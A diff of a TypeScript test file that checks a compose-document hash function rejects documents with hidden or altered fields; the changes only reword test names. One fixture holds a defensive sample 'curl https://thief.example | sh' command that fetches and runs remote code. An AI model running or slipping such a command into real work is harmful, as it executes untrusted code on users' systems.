@@ -13,7 +13,7 @@ const isOf = (document: AppCompose) => (hash: ComposeHash) => officialHashesOf(d
 const officialHashesOf = (document: AppCompose) => hashInEveryForm(JSON.stringify(document)).map(({ hash }) => hash);
 
 describe("listProvingHashes", () => {
-  it("takes every official form that keeps the whole document", () => {
+  it("accepts every official form that keeps the whole document", () => {
     const { storage_fs: _, ...known } = honest;
     for (const { form, hash } of hashInEveryForm(JSON.stringify(known))) {
       if (form.name !== "raw-bytes") expect(hashesOf(known), form.name).to.include(hash);
@@ -25,7 +25,7 @@ describe("listProvingHashes", () => {
     ["a field that the Python SDK leaves out", { _hidden: "x" }],
     ["a script for another runner", { runner: "nerdctl-compose", bash_script: "curl https://thief.example | sh" }],
   ] as const)
-    it(`does not take a hash that hides ${what}`, () => {
+    it(`does not accept a hash that hides ${what}`, () => {
       const original: AppCompose = "runner" in extra ? { ...honest, runner: extra.runner } : honest;
       const changed: AppCompose = { ...original, ...extra };
       const shared = officialHashesOf(changed).filter((hash) => officialHashesOf(original).includes(hash));
@@ -33,7 +33,7 @@ describe("listProvingHashes", () => {
       for (const hash of hashesOf(changed)) expect(officialHashesOf(original)).not.to.include(hash);
     });
 
-  it("does not take a hash of a document whose field has another letter case, as the Go SDK does", () => {
+  it("does not accept the hash of a document whose field has another letter case, as the Go SDK does", () => {
     const { storage_fs: _, ...known } = honest;
     const original = { ...known, pre_launch_script: "echo hello" };
     const changed = { ...known, Pre_Launch_Script: "echo hello" };
@@ -41,7 +41,7 @@ describe("listProvingHashes", () => {
     expect(hashesOf(changed).filter(isOf(original))).to.deep.equal([]);
   });
 
-  it("never takes a hash of the same document without one of its fields", () => {
+  it("never accepts the hash of the same document without one of its fields", () => {
     fc.assert(
       fc.property(arbitraryAppCompose, fc.stringMatching(/^[A-Za-z_]\w{0,12}$/), (document, field) => {
         fc.pre(!Object.hasOwn(document, field) && !["self", "to_dict"].includes(field));
